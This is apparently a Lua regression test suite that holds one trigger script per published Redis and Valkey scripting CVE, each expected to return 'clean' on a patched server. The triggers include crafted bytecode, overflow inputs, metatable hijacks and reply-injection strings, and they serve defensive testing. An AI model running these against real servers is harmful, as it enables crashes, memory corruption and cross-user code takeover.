-- One attack for each published flaw in the scripting of Redis and Valkey since 2015, and for others
-- that a script can reach. Each is written from the flaw's description, and named after what it
-- attacks.

--- cve-2014-5461-many-parameters-before-the-dots
local p = {} for i = 1, 190 do p[i] = 'p' .. i end
local f = loadstring('return function(' .. table.concat(p, ',') .. ', ...) return select("#", ...) end')()
local function deep(n) local r = f() if n == 0 then return r end return deep(n - 1) + r end
for n = 1, 190 do deep(n) coroutine.wrap(function() return f(), f(1, 2, 3) end)() end return 'clean'
--> clean
--- cve-2015-4335-bytecode-loaded-as-a-chunk
local f = loadstring('\27LuaQ\0\1\4\8\4\8\0' .. string.rep('\255', 400)) return f == nil and 'clean' or 'loaded'
--> clean
--- cve-2015-4335-bytecode-patched-from-a-dump
local ok, s = pcall(string.dump, function(a) for i = a, a, 0 do return i end end)
if not ok then return 'clean' end
s = s:gsub('(\96%z%z\128)', '\22\0\0\128')
local f = loadstring(s) return f == nil and 'clean' or 'loaded'
--> clean
--- cve-2015-8080-struct-size-of-a-number
for _, n in ipairs({'2147483647', '2147483648', '4294967296', '4294967297', '18446744073709551617'}) do
  for _, f in ipairs({'i', 'I', '>i', '!', 'c', 's'}) do pcall(struct.pack, f .. n, 'ab') pcall(struct.unpack, f .. n, 'ab') pcall(struct.size, f .. n) end
end
return pcall(struct.pack, 'I2147483648', 10) and 'packed' or 'clean'
--> clean
--- cve-2016-8339-config-is-not-for-scripts
return redis.pcall('config', 'set', 'client-output-buffer-limit', 'master 3735928559 3405691582 373529054').err ~= nil and 'clean' or 'set'
--> clean
--- cve-2018-11218-cmsgpack-pack-many-values
local t = {} for i = 1, 7900 do t[i] = i end return #cmsgpack.pack(unpack(t)) > 0 and 'clean'
--> clean
--- cve-2018-11218-cmsgpack-pack-deep-values
local t = {} for i = 1, 20000 do t = {t, {}} end return #cmsgpack.pack(t) > 0 and 'clean'
--> clean
--- cve-2018-11218-cmsgpack-unpack-more-than-the-stack-holds
pcall(cmsgpack.unpack, string.rep('\192', 100000)) return 'clean'
--> clean
--- cve-2018-11219-struct-alignment-overflow
pcall(struct.pack, '!2147483648i', 1) pcall(struct.unpack, '>!16i2147483647', 'aaaa') return 'clean'
--> clean
--- cve-2018-11219-struct-size-overflow
pcall(struct.pack, '>I2147483648', 10) pcall(struct.unpack, '>I2147483648', '10')
pcall(struct.unpack, 'c0', 'a', 2147483647) pcall(struct.unpack, 'c4294967295', 'a') pcall(struct.unpack, 'Bc0', '\255a') return 'clean'
--> clean
--- cve-2018-11219-struct-position-overflow
pcall(struct.unpack, 'I', 'aaaa', -1) pcall(struct.unpack, 'I', 'aaaa', 4294967296) pcall(struct.unpack, 'I', 'aaaa', 2 ^ 63) return 'clean'
--> clean
--- cve-2020-14147-struct-number-in-format
return pcall(struct.pack, '>I2147483648', 10) and 'packed' or 'clean'
--> clean
--- cve-2020-14147-struct-number-wraps
return pcall(struct.unpack, 'c' .. string.rep('9', 100), 'abc') and 'unpacked' or 'clean'
--> clean
--- cve-2021-29477-longest-common-subsequence
redis.call('set', '{hostile}a', string.rep('a', 70000)) redis.call('set', '{hostile}b', string.rep('b', 70000))
redis.pcall('lcs', '{hostile}a', '{hostile}b', 'idx') redis.call('del', '{hostile}a', '{hostile}b') return 'clean'
--- cve-2021-32626-lua-stack-in-reply-of-a-call
local t = {} for i = 1, 7900 do t[i] = 'a' end
pcall(redis.call, 'echo', unpack(t)) return 'clean'
--> clean
--- cve-2021-32626-lua-stack-in-a-deep-result
local function f(n, ...) if n == 0 then return {{{{{}}}}} end return f(n - 1, 1, 2, 3, ...) end
pcall(f, 2000) return 'clean'
--> clean
--- cve-2021-32626-lua-stack-full-before-a-call
local function f(...) return redis.pcall('command', 'info', 'get', 'set') end
local t = {} for i = 1, 7950 do t[i] = i end
pcall(f, unpack(t)) return 'clean'
--> clean
--- cve-2021-32626-lua-stack-in-a-nested-value
local t = {} for i = 1, 50000 do t = {t} end return t
--- cve-2021-32672-debugger-reads-past-a-protocol-line
redis.breakpoint() redis.debug(string.rep('a', 1000), {}, {{}}, 'a\r\n$100000\r\n') return 'clean'
--> clean
--- cve-2021-32761-bit-fields-from-scripts
return redis.pcall('bitfield_ro', 'nosuch', 'get', 'u8', '#9223372036854775807').err ~= nil and 'clean' or 'read'
--> clean
--- cve-2021-32687-set-of-numbers-with-a-broken-length
redis.pcall('restore', 'hostile:intset', 0, '\11\16\8\0\0\0\255\255\255\127\1\0\0\0\0\0\0\0\11\0' .. string.rep('\0', 8))
redis.call('del', 'hostile:intset') return 'clean'
--> clean
--- cve-2021-41099-strings-near-the-bulk-limit
return redis.pcall('setrange', 'hostile:range', 536870911, 'xx').err ~= nil and 'clean' or 'written'
--> clean
--- cve-2021-43519-resumed-within-resumed
local function nest(n) return coroutine.wrap(function() return nest(n + 1) end)() end
return pcall(nest, 1) and 'endless' or 'clean'
--> clean
--- cve-2022-0543-package-loadlib
return (rawget(_G, 'package') == nil and pcall(function() return package.loadlib end) == false) and 'clean' or 'open'
--> clean
--- cve-2022-24735-code-for-another-user-through-a-global
pcall(function() redis.call = function() return 'taken over' end end)
pcall(rawset, _G, 'redis', {}) pcall(rawset, getmetatable(_G) or {}, '__index', function() return 'taken over' end)
pcall(function() getfenv(1).redis = {} end) return 1
--- then
return redis.call('echo', 'clean')
--> clean
--- cve-2022-24735-code-for-another-user-through-string-metatable
pcall(function() local m = getmetatable('') m.__index = function() return function() return 'taken over' end end end) return 1
--- then
return ('clean'):rep(1)
--> clean
--- cve-2022-24735-code-for-another-user-through-a-library
pcall(function() cjson.encode = function() return 'taken over' end end) pcall(rawset, cjson, 'encode', 1)
pcall(function() math.random = function() return 4 end end) return 1
--- then
return cjson.encode({1}) == '[1]' and math.random(1, 1) == 1 and 'clean' or 'taken over'
--> clean
--- cve-2022-24736-crash-by-a-crafted-error-table
error(setmetatable({}, {__index = function() error({}) end}))
--- cve-2022-24736-crash-by-a-table-of-arguments
return redis.pcall({}) 
--- cve-2022-24834-cjson-encode-overflow
local s = string.rep('\1', 360000000) return pcall(cjson.encode, s) and 'encoded' or 'clean'
--- cve-2022-24834-cjson-encode-overflow-in-a-table
local s = string.rep('"', 100000000) local t = {s, s, s, s, s, s, s, s, s, s} pcall(cjson.encode, t) return 'clean'
--- cve-2022-24834-cmsgpack-pack-overflow
local s = string.rep('a', 100000000) pcall(cmsgpack.pack, s, s, s, s, s, s, s, s, s, s, s, s, s) return 'clean'
--- cve-2022-31144-claimed-entries-that-are-gone
redis.call('xadd', 'hostile:stream', '1-1', 'a', 'b') redis.call('xgroup', 'create', 'hostile:stream', 'g', '0')
redis.call('xreadgroup', 'group', 'g', 'c', 'streams', 'hostile:stream', '>') redis.call('xdel', 'hostile:stream', '1-1')
redis.call('xautoclaim', 'hostile:stream', 'g', 'd', 0, '0', 'count', 1) redis.call('del', 'hostile:stream') return 'clean'
--> clean
--- cve-2022-35951-count-of-claimed-entries
redis.call('xgroup', 'create', 'hostile:stream', 'g', '0', 'mkstream')
local r = redis.pcall('xautoclaim', 'hostile:stream', 'g', 'c', 0, '0', 'count', '4611686018427387904')
redis.call('del', 'hostile:stream') return r.err ~= nil and 'clean' or 'claimed'
--> clean
--- cve-2022-35977-offsets-of-ranges
local r = redis.pcall('setrange', 'hostile:range', '4294967296', 'x')
redis.call('rpush', 'hostile:list', 3, 1, 2) redis.pcall('sort', 'hostile:list', 'limit', '1', '9223372036854775807')
redis.pcall('sort', 'hostile:list', 'limit', '-9223372036854775808', '9223372036854775807')
redis.call('del', 'hostile:list') return r.err ~= nil and 'clean' or 'written'
--> clean
--- cve-2022-36021-pattern-of-a-scan
redis.pcall('scan', '0', 'match', string.rep('a*', 50) .. 'b') redis.pcall('keys', string.rep('a*', 50) .. 'b') return 'clean'
--> clean
--- cve-2023-22458-random-members-of-a-range
return redis.pcall('hrandfield', 'nosuch', '-9223372036854775808').err ~= nil and 'clean' or 'answered'
--- cve-2023-25155-random-members-of-a-set
redis.call('sadd', 'hostile:set', 'a') redis.call('zadd', 'hostile:zset', 1, 'a')
local r = redis.pcall('srandmember', 'hostile:set', '-9223372036854775808')
redis.pcall('zrandmember', 'hostile:zset', '-9223372036854775807', 'withscores')
redis.call('del', 'hostile:set', 'hostile:zset') return r.err ~= nil and 'clean' or 'answered'
--- cve-2023-28856-increment-in-a-hash
redis.pcall('hincrbyfloat', 'hostile:hash', 'a', '1e-100') redis.call('del', 'hostile:hash') return 'clean'
--> clean
--- cve-2023-41053-keys-of-sort-ro
return redis.pcall('sort_ro', 'nosuch', 'get', '#') ~= nil and 'clean'
--> clean
--- cve-2023-41056-memory-of-a-resized-reply
local t = {} for i = 1, 100 do t[i] = string.rep('a', i * 1000) end return #table.concat(t) > 0 and 'clean'
--> clean
--- cve-2024-31227-selectors-of-users
return redis.pcall('acl', 'setuser', 'hostile', '%W%R~a', '(~a', ')', '%~').err ~= nil and 'clean' or 'set'
--> clean
--- cve-2024-31228-pattern-without-an-end
return redis.pcall('keys', string.rep('*?', 20000)) ~= nil and 'clean'
--> clean
--- cve-2024-31449-bit-tohex-of-the-smallest-number
return #bit.tohex(65535, -2147483648) == 8 and 'clean' or 'wrong'
--> clean
--- cve-2024-46981-collector-with-a-live-table
local t = setmetatable({}, {__mode = 'k'})
for i = 1, 10000 do t[{}] = newproxy(true) if i % 100 == 0 then collectgarbage('step') end end
collectgarbage() collectgarbage() return 'clean'
--> clean
--- cve-2024-46981-finalizer-resurrects-a-proxy
local p = newproxy(true)
pcall(function() getmetatable(p).__gc = function(x) p = x end end)
pcall(rawset, getmetatable(p), '__gc', function(x) p = x end)
p = nil collectgarbage() collectgarbage() return 'clean'
--> clean
--- cve-2025-32023-counts-of-runs-beyond-all-registers
local runs = {} for i = 1, 70000 do runs[i] = '\127\255' end
for _, body in ipairs({table.concat(runs), table.concat(runs) .. '\132', string.rep('\63', 300) .. '\132', '\127'}) do
  redis.call('set', '{hostile}hll', 'HYLL\1\0\0\0' .. string.rep('\0', 7) .. '\128' .. body)
  redis.pcall('pfcount', '{hostile}hll') redis.pcall('pfadd', '{hostile}hll', 'a') redis.pcall('pfcount', '{hostile}hll', '{hostile}no')
  redis.pcall('pfmerge', '{hostile}hll', '{hostile}hll') redis.pcall('pfdebug', 'getreg', '{hostile}hll')
end
redis.call('del', '{hostile}hll') return 'clean'
--> clean
--- cve-2025-46817-unpack-of-the-whole-range
return (pcall(unpack, {}, 0, 2147483647) or pcall(unpack, {1, 2, 3}, -2, 2147483647)) and 'unpacked' or 'clean'
--> clean
--- cve-2025-46817-unpack-of-a-wrapping-range
return (pcall(unpack, {}, -2147483648, 2147483647) or pcall(unpack, {}, -2147483648, 0)) and 'unpacked' or 'clean'
--> clean
--- cve-2025-46818-metatable-of-strings
local m = getmetatable('') pcall(function() m.__index = function() return 'taken over' end end)
pcall(rawset, m, '__add', function() return 'taken over' end) pcall(setmetatable, m, {}) return 1
--- then
return (pcall(function() return 'a' + 'b' end)) and 'taken over' or 'clean'
--> clean
--- cve-2025-46818-metatable-of-other-basic-types
for _, v in ipairs({1, true, pcall}) do pcall(setmetatable, v, {__index = {x = 'taken over'}}) end return 1
--- then
return (pcall(function() return (1).x end)) and 'taken over' or 'clean'
--> clean
--- cve-2025-46819-long-string-ends-in-the-middle
for _, s in ipairs({'[==', '[=', 'return [=', 'return [==[a]=', '--[==', '--[=', 'return [=]', ']]', 'return [[a]'}) do pcall(loadstring, s) end return 'clean'
--> clean
--- cve-2025-46819-long-bracket-counts
for n = 250, 260 do pcall(loadstring, 'return [' .. string.rep('=', n)) pcall(loadstring, '--[' .. string.rep('=', n)) end return 'clean'
--> clean
--- cve-2025-46819-long-bracket-beyond-all-counts
return (loadstring('return [' .. string.rep('=', 20000000) .. '[')) == nil and 'clean' or 'loaded'
--- cve-2025-49844-chunk-name-collected-in-the-parser
for i = 1, 200 do loadstring('local a = "' .. string.rep('x', 1000) .. i .. '" return {' .. string.rep('{},', 100) .. '}', string.rep('n', 100) .. i) end return 'clean'
--> clean
--- cve-2025-49844-collection-while-a-reader-is-called
local n = 0
local f = load(function() n = n + 1 collectgarbage() if n < 50 then return 'local a' .. n .. ' = "' .. n .. '" ' end end, 'name' .. math.random())
return type(f) == 'function' and 'clean'
--> clean
--- cve-2025-49844-parser-left-by-a-failing-reader
for i = 1, 50 do load(function() collectgarbage() if i % 2 == 0 then error('x') end return nil end, 'name' .. i) end collectgarbage() return 'clean'
--> clean
--- cve-2025-67733-error-reply-with-a-zero
return redis.error_reply('ERR a\0b\r\n$5\r\nhello\r\n')
--- cve-2025-67733-error-table-with-a-zero
return {err = 'a\0\r\n:1\r\n', source = '\0\r\n:1', line = '\r\n:1'}
--- cve-2025-67733-raised-error-with-a-zero
error({err = '\0\r\n+x\r\n', source = '\r\n:1\0', line = '\0\r\n:2'})
--- cve-2025-67733-raised-text-with-a-zero
error('a\0\r\n*1\r\n:1\r\n', 0)
--- cve-2025-67733-error-of-a-command-with-a-zero
return redis.pcall('no\0such\r\n:1\r\n', '\0\r\n:1')
--- cve-2023-36824-keys-of-commands-that-lack-them
for _, name in ipairs({'eval', 'evalsha', 'fcall', 'zunionstore', 'zdiff', 'xread', 'xreadgroup', 'sort', 'migrate', 'lmpop', 'bzmpop', 'georadius'}) do
  for _, count in ipairs({'0', '-1', '1', '3', '1000000', '2147483648', '4294967297', '9223372036854775807', 'streams', ''}) do
    pcall(redis.acl_check_cmd, name, 'x', count, 'k') pcall(redis.acl_check_cmd, name, count) pcall(redis.acl_check_cmd, name, '1', count, 'streams', 'a')
    redis.pcall('command', 'getkeys', name, 'x', count, 'k') redis.pcall('command', 'getkeysandflags', name, count, 'k', 'streams')
  end
end
return 'clean'
--> clean
--- cve-2024-51741-selectors-that-do-not-end
for _, rules in ipairs({'(', '(+get', '(+get ~a', ')', '()', '((+get))', '(%R~', '(%', '+get|', '+get|)', '~', '%RW~)', '(~a &'}) do
  redis.pcall('acl', 'setuser', 'hostile', 'on', rules) redis.pcall('acl', 'dryrun', 'hostile', 'get', 'a')
end
return 'clean'
--> clean
--- cve-2026-25243-restore-of-broken-values
local function crc(s)
  local low, high = 0, 0
  for i = 1, #s do
    low = bit.bxor(low, s:byte(i))
    for _ = 1, 8 do
      local odd = bit.band(low, 1)
      low, high = bit.bor(bit.rshift(low, 1), bit.lshift(high, 31)), bit.rshift(high, 1)
      if odd == 1 then low, high = bit.bxor(low, 0xac4bc9b5), bit.bxor(high, 0x95ac9329) end
    end
  end
  return struct.pack('<i4i4', low, high)
end
local looks = {{'get'}, {'hgetall'}, {'lrange', 0, -1}, {'smembers'}, {'zrange', 0, -1, 'withscores'}, {'xrange', '-', '+'}, {'rpop'}, {'spop'}, {'zpopmin'}, {'append', 'x'}, {'dump'}}
local tried, taken = 0, 0
local function tries(v)
  local d = redis.call('dump', 'hostile:dump'):sub(1, -9)
  assert(redis.call('restore', 'hostile:copy', 0, d .. crc(d), 'replace').ok == 'OK')
  for i = 1, #d - 2 do
    local broken = d:sub(1, i - 1) .. string.char((d:byte(i) + v) % 256) .. d:sub(i + 1)
    tried = tried + 1
    if redis.pcall('restore', 'hostile:copy', 0, broken .. crc(broken), 'replace').ok then
      taken = taken + 1
      for _, look in ipairs(looks) do redis.pcall(look[1], 'hostile:copy', unpack(look, 2)) end
      redis.pcall('xinfo', 'stream', 'hostile:copy', 'full') redis.pcall('xautoclaim', 'hostile:copy', 'g', 'c', 0, '0')
    end
  end
  redis.call('del', 'hostile:dump', 'hostile:copy')
end
for _, v in ipairs({1, 64, 128, 255}) do
  redis.call('hset', 'hostile:dump', 'a', 1, 'b', 2) tries(v)
  redis.call('rpush', 'hostile:dump', 1, 'x', 300) tries(v)
  redis.call('zadd', 'hostile:dump', 1, 'a', 2, 'b') tries(v)
  redis.call('sadd', 'hostile:dump', 1, 70000) tries(v)
  redis.call('xadd', 'hostile:dump', '1-1', 'a', 'b') redis.call('xgroup', 'create', 'hostile:dump', 'g', '0')
  redis.call('xreadgroup', 'group', 'g', 'c', 'streams', 'hostile:dump', '>') tries(v)
end
return tried > 500 and taken > 0 and 'clean' or 'nothing was tried'
--> clean
--- cve-2026-63639-entry-that-two-consumers-have-pending
local function crc(s)
  local low, high = 0, 0
  for i = 1, #s do
    low = bit.bxor(low, s:byte(i))
    for _ = 1, 8 do
      local odd = bit.band(low, 1)
      low, high = bit.bor(bit.rshift(low, 1), bit.lshift(high, 31)), bit.rshift(high, 1)
      if odd == 1 then low, high = bit.bxor(low, 0xac4bc9b5), bit.bxor(high, 0x95ac9329) end
    end
  end
  return struct.pack('<i4i4', low, high)
end
local key = 'hostile:stream'
redis.call('xadd', key, '1-1', 'a', 'b') redis.call('xadd', key, '2-1', 'a', 'b') redis.call('xgroup', 'create', key, 'g', '0')
for _, consumer in ipairs({'alice', 'bobby'}) do redis.call('xreadgroup', 'group', 'g', consumer, 'count', 1, 'streams', key, '>') end
local d = redis.call('dump', key):sub(1, -9)
assert(redis.call('restore', key, 0, d .. crc(d), 'replace').ok == 'OK')
local first, second = struct.pack('>I8I8', 1, 1), struct.pack('>I8I8', 2, 1)
local at, last = 0, nil
repeat at = d:find(second, at + 1, true) last = at or last until not at
local shared = d:sub(1, last - 1) .. first .. d:sub(last + 16)
local answer = redis.pcall('restore', key, 0, shared .. crc(shared), 'replace')
redis.pcall('xgroup', 'delconsumer', key, 'g', 'alice') redis.pcall('xpending', key, 'g', '-', '+', 10) redis.pcall('xautoclaim', key, 'g', 'c', 0, '0')
redis.call('del', key)
return answer.err and 'clean' or 'restored'
--> clean
--- restore-of-a-score-that-is-no-number
local function crc(s)
  local low, high = 0, 0
  for i = 1, #s do
    low = bit.bxor(low, s:byte(i))
    for _ = 1, 8 do
      local odd = bit.band(low, 1)
      low, high = bit.bor(bit.rshift(low, 1), bit.lshift(high, 31)), bit.rshift(high, 1)
      if odd == 1 then low, high = bit.bxor(low, 0xac4bc9b5), bit.bxor(high, 0x95ac9329) end
    end
  end
  return struct.pack('<i4i4', low, high)
end
redis.call('zadd', 'hostile:zset', '1.5', 'a', '2.5', 'b')
local d = redis.call('dump', 'hostile:zset'):sub(1, -9)
local broken, n = d:gsub('2%.5', 'nan')
local answer = redis.pcall('restore', 'hostile:zset', 0, broken .. crc(broken), 'replace')
redis.pcall('zrange', 'hostile:zset', 0, -1) redis.pcall('zadd', 'hostile:zset', 3, 'c') redis.call('del', 'hostile:zset')
return n == 1 and answer.err and 'clean' or 'restored'
--> clean
